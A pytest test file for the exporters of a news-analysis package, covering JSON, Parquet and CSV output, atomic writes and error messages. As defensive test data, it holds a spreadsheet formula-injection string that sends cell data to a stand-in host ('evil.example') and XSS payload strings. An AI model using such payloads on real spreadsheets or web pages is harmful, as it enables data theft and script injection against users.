"""Exports: JSON, Parquet and CSV round trips; atomic writes; clear errors."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pandas as pd
import pytest

from manysides.analysis import Analysis
from manysides.errors import ConfigError, ManysidesError, OutputError
from manysides.present import export


def _leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.endswith(".tmp")]


def test_json_round_trip(analysis: Analysis, tmp_path: Path):
    target = tmp_path / "run.json"
    assert export(analysis, target) == [target]
    with target.open(encoding="utf-8") as fh:
        data = json.load(fh)
    assert data == json.loads(json.dumps(analysis.to_json()))
    raw = target.read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" in raw  # ensure_ascii=False: text kept as written
    assert raw.startswith('{\n  "articles"')  # indent 2
    story = data["stories"][0]
    assert story["independent_articles"] == ["a1", "a2"]
    assert story["disputed"][0]["claims"][1]["high"] is None
    assert _leftovers(tmp_path) == []


def test_json_gives_each_unique_item_its_new_details(analysis: Analysis):
    """`details` are the figures and names only that outlet gives, as spans of its text; an
    item without any (or one built as plain Evidence) has an empty list, never no key."""
    unique = analysis.to_json()["stories"][0]["unique"]
    start = next(a.text for a in analysis.articles if a.id == "a2").index("<unclosed")
    assert [u["details"] for u in unique] == [
        [], [{"article": "a2", "start": start, "end": start + 21, "text": "<unclosed <b>bold tag"}]]


def test_json_never_writes_nan(analysis: Analysis, tmp_path: Path):
    from dataclasses import replace

    ann = analysis.annotations["a1"]
    claim = replace(ann.claims[0], value=float("nan"), high=float("inf"))
    analysis.annotations["a1"] = replace(ann, claims=(claim,))
    target = tmp_path / "nan.json"
    export(analysis, target)
    data = json.loads(target.read_text(encoding="utf-8"))  # strict JSON parses
    exported = data["articles"][0]["claims"][0]
    assert exported["value"] is None and exported["high"] is None


@pytest.mark.parametrize("ext", ["parquet", "csv"])
def test_tables_round_trip(analysis: Analysis, tmp_path: Path, ext: str):
    written = export(analysis, tmp_path / f"run.{ext}")
    assert written == [tmp_path / f"run.{name}.{ext}" for name in ("stories", "articles", "claims", "quotes", "voices")]
    read = pd.read_parquet if ext == "parquet" else pd.read_csv
    stories, articles, claims, quotes, voices = (read(p) for p in written)
    # the stored voices, one row each; this fixture's ledger is not what its quotes give,
    # so no quote claims a place in it
    assert list(voices["speaker"]) == [v.speaker for v in analysis.reports["s1"].voices]
    assert list(voices["voice"]) == [0, 1, 2] and set(voices["story"]) == {"s1"}
    assert quotes["voice"].isna().all()

    # one row per story, joinable to the other tables by its id
    assert list(stories["story"]) == [s.id for s in analysis.stories]
    s1 = stories.set_index("story").loc["s1"]
    assert s1["articles"] == 3 and s1["independent_articles"] == 2 and s1["outlets"] == 2
    assert s1["disputed"] == len(analysis.reports["s1"].disputed) >= 1
    assert s1["summary"] == analysis.reports["s1"].summary
    assert set(claims["story"]) <= set(stories["story"]) and set(quotes["story"]) <= set(stories["story"])
    # the claims a disputed number lists are flagged where they are
    flagged = {(c.article, c.start) for d in analysis.reports["s1"].disputed for c in d.claims}
    assert {(r.article, r.start) for r in claims.itertuples() if r.disputed} == flagged

    assert list(articles["id"]) == ["a1", "a2", "a3", "a4"]
    assert list(articles["story"]) == ["s1", "s1", "s1", 's2"<x>']
    assert articles.loc[2, "duplicate_of"] == "a1"
    assert articles.loc[0, "text"] == analysis.articles[0].text
    removed = articles.loc[0, "removed"]
    if ext == "csv":
        removed = json.loads(removed)  # list columns are JSON strings in CSV
    assert list(removed) == ["cookie banner", "share buttons"]

    assert len(claims) == 4
    assert set(claims["article"]) == {"a1", "a2"}
    row = claims[claims["text"] == "At least 15"].iloc[0]
    assert row["value"] == 15 and row["low"] == 15 and pd.isna(row["high"])
    assert list(claims.columns) == list(analysis.claims_frame().columns)

    assert len(quotes) == 2 and set(quotes["speaker"]) == {"Ann Lee"}
    assert "<img src=x onerror=alert(1)>" in quotes.loc[0, "text"]
    assert _leftovers(tmp_path) == []


@pytest.mark.parametrize("ext", ["parquet", "csv"])
def test_a_file_named_after_a_table_holds_that_table_alone(analysis: Analysis, tmp_path: Path, ext: str):
    both = export(analysis, tmp_path / f"run.{ext}")
    assert export(analysis, tmp_path / f"Claims.{ext}") == [tmp_path / f"Claims.{ext}"]
    assert export(analysis, tmp_path / f"quotes.{ext}") == [tmp_path / f"quotes.{ext}"]
    read = pd.read_parquet if ext == "parquet" else pd.read_csv
    pd.testing.assert_frame_equal(read(tmp_path / f"Claims.{ext}"), read(both[2]))
    pd.testing.assert_frame_equal(read(tmp_path / f"quotes.{ext}"), read(both[3]))
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([*(p.name for p in both), f"Claims.{ext}", f"quotes.{ext}"])


def test_empty_analysis_exports(tmp_path: Path):
    for name in ("e.json", "e.parquet", "e.csv"):
        for p in export(Analysis(), tmp_path / name):
            assert p.exists()
    assert pd.read_parquet(tmp_path / "e.claims.parquet").empty


def test_html_suffix_writes_the_report(analysis: Analysis, tmp_path: Path):
    [p] = export(analysis, tmp_path / "report.html")
    assert "Content-Security-Policy" in p.read_text(encoding="utf-8")


def test_unknown_suffix_names_the_accepted_ones(analysis: Analysis, tmp_path: Path):
    with pytest.raises(ConfigError) as err:
        export(analysis, tmp_path / "run.xlsx")
    msg = str(err.value)
    for suffix in (".json", ".parquet", ".csv"):
        assert suffix in msg
    assert "xlsx" in msg
    with pytest.raises(ConfigError):
        export(analysis, tmp_path / "noext")
    assert list(tmp_path.iterdir()) == []


def test_a_missing_folder_is_made_as_json_and_html_make_theirs(analysis: Analysis, tmp_path: Path):
    written = export(analysis, tmp_path / "new" / "deeper" / "run.csv")
    assert written and all(p.parent == tmp_path / "new" / "deeper" and p.is_file() for p in written)


def test_a_folder_that_cannot_be_made_is_a_clear_error(analysis: Analysis, tmp_path: Path):
    (tmp_path / "a-file").write_text("not a folder")
    with pytest.raises(ManysidesError, match="cannot be made"):
        export(analysis, tmp_path / "a-file" / "run.json")


def test_failed_export_leaves_old_files_whole(analysis: Analysis, tmp_path: Path, monkeypatch):
    import pyarrow.parquet as pq

    old = {tmp_path / f"run.{n}.parquet": b"old " + n.encode() for n in ("stories", "articles", "claims", "quotes", "voices")}
    for p, data in old.items():
        p.write_bytes(data)
    calls = {"n": 0}
    real = pq.write_table

    def flaky(table, path, *a, **kw):
        calls["n"] += 1
        if calls["n"] == 2:
            raise OSError(28, "No space left on device", str(path))
        return real(table, path, *a, **kw)

    monkeypatch.setattr(pq, "write_table", flaky)
    with pytest.raises(OutputError) as err:
        export(analysis, tmp_path / "run.parquet")
    # the file named and the cause in words, with the code of an environment that failed
    # (3), not of bad usage (2): the command was right, the disk was full
    assert str(err.value).startswith(f"cannot write {str(tmp_path / 'run.articles.parquet')!r}: the disk is full (")
    assert err.value.exit_code == 3 and isinstance(err.value, ConfigError)  # still caught as before
    for p, data in old.items():
        assert p.read_bytes() == data  # neither half-written nor a mix of old and new
    assert _leftovers(tmp_path) == []


@pytest.mark.parametrize("name, failing", [("run.json", "run.json"), ("run.parquet", "run.articles.parquet")])
def test_a_failed_write_names_the_users_file_not_its_temporary_sibling(
        analysis: Analysis, tmp_path: Path, monkeypatch, name: str, failing: str):
    """On a read-only folder the line named '.run.json.voby1vbh.tmp', a file the user never
    gave, and for tables always the first table's file, whichever failed."""
    import tempfile

    real = tempfile.mkstemp

    def read_only(prefix="", suffix="", dir=None):
        if prefix.startswith(f".{failing}."):
            raise OSError(30, "Read-only file system", os.path.join(dir, prefix + "x1y2z3" + suffix))
        return real(prefix=prefix, suffix=suffix, dir=dir)

    monkeypatch.setattr(tempfile, "mkstemp", read_only)
    with pytest.raises(ConfigError) as err:
        export(analysis, tmp_path / name)
    assert str(err.value).startswith(f"cannot write {str(tmp_path / failing)!r}: Read-only file system")


def test_new_files_are_not_private(analysis: Analysis, tmp_path: Path):
    import os

    mask = os.umask(0o022)
    os.umask(mask)
    [p] = export(analysis, tmp_path / "run.json")
    assert p.stat().st_mode & 0o777 == 0o666 & ~mask


def test_csv_cells_never_open_as_spreadsheet_formulas(analysis: Analysis, tmp_path: Path):
    from dataclasses import replace

    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    analysis.articles[3] = replace(analysis.articles[3], title=formula, outlet="@SUM(1,1)", byline="-2+3",
                                   external_id="-17")
    csv_articles = pd.read_csv(export(analysis, tmp_path / "f.csv")[1], dtype={"external_id": str})
    row = csv_articles[csv_articles["id"] == "a4"].iloc[0]
    assert (row["title"], row["outlet"], row["byline"]) == ("'" + formula, "'@SUM(1,1)", "'-2+3")
    assert row["external_id"] == "-17"  # a plain number is no formula: it joins back to the user's data
    assert csv_articles.loc[0, "title"] == analysis.articles[0].title  # other text as it was
    # Parquet keeps the values as they are: no spreadsheet opens it as formulas
    parquet = pd.read_parquet(export(analysis, tmp_path / "f.parquet")[1])
    assert parquet[parquet["id"] == "a4"].iloc[0]["title"] == formula


def test_a_csv_cell_that_starts_with_an_apostrophe_reads_back_by_taking_one_off(analysis: Analysis, tmp_path: Path):
    """A title that truly starts with ' ("'There cannot be war'") looked like the formula
    guard's: every text cell that starts with ' now had one added, so taking one off any such
    cell gives back the value, the guard's and the text's alike."""
    from dataclasses import replace

    titles = {"a1": "'There cannot be war,' minister says", "a2": "=1+1", "a3": "''", "a4": "-17"}
    for i, art in enumerate(analysis.articles):
        if art.id in titles:
            analysis.articles[i] = replace(art, title=titles[art.id])
    frame = pd.read_csv(export(analysis, tmp_path / "f.csv")[1], dtype=str, keep_default_na=False)
    read_back = frame.set_index("id")["title"].str.replace(r"^'", "", regex=True)
    assert {k: read_back[k] for k in titles} == titles
    assert frame.set_index("id").loc["a1", "title"] == "''There cannot be war,' minister says"


def test_a_link_stays_a_link_and_a_pipe_stays_a_pipe(analysis: Analysis, tmp_path: Path):
    import stat
    import threading

    real = tmp_path / "real.json"
    real.write_text("old")
    link = tmp_path / "link.json"
    link.symlink_to(real)
    export(analysis, link)
    assert link.is_symlink() and json.loads(real.read_text())["articles"]
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    export(analysis, fifo)
    reader.join(10)
    assert stat.S_ISFIFO(os.stat(fifo).st_mode) and json.loads(got[0])["articles"]


def test_a_column_without_values_keeps_its_type_so_runs_concatenate(analysis: Analysis, tmp_path: Path):
    """A run with no wire copy writes duplicate_of as text, as a run with one does."""
    import pyarrow.parquet as pq
    from dataclasses import replace

    with_copy = export(analysis, tmp_path / "a.parquet")
    analysis.articles = [replace(a, duplicate_of=None) for a in analysis.articles]
    analysis.annotations = {k: replace(v, claims=()) for k, v in analysis.annotations.items()}
    without = export(analysis, tmp_path / "b.parquet")
    for table in (1, 2):  # articles, then claims (none at all in the second run)
        one, two = pq.read_schema(with_copy[table]), pq.read_schema(without[table])
        assert [(f.name, str(f.type)) for f in one] == [(f.name, str(f.type)) for f in two]
    assert "string" in str(pq.read_schema(without[1]).field("duplicate_of").type)
    both = pd.concat([pd.read_parquet(with_copy[1]), pd.read_parquet(without[1])])
    assert both["duplicate_of"].notna().sum() == 1


def test_pyarrows_full_disk_is_said_in_words(analysis: Analysis, tmp_path: Path, monkeypatch):
    """pyarrow gives the system's error number only in its text ("Error writing bytes to
    file. Detail: [errno 28] ..."), which the line passed on as it was."""
    import pyarrow.parquet as pq

    def full(table, path, *a, **kw):
        raise OSError("Error writing bytes to file. Detail: [errno 28] No space left on device")

    monkeypatch.setattr(pq, "write_table", full)
    with pytest.raises(OutputError) as err:
        export(analysis, tmp_path / "run.parquet")
    assert "the disk is full" in str(err.value) and "Detail" not in str(err.value)
    assert _leftovers(tmp_path) == []


def test_json_gives_each_unique_item_its_speaker_key(analysis: Analysis):
    """`speaker` is null for an outlet's own statement (and for an item built as plain Evidence),
    never no key (docs/json-schema.md)."""
    unique = analysis.to_json()["stories"][0]["unique"]
    assert unique and all("speaker" in u for u in unique)
    assert [u["speaker"] for u in unique] == [None] * len(unique)
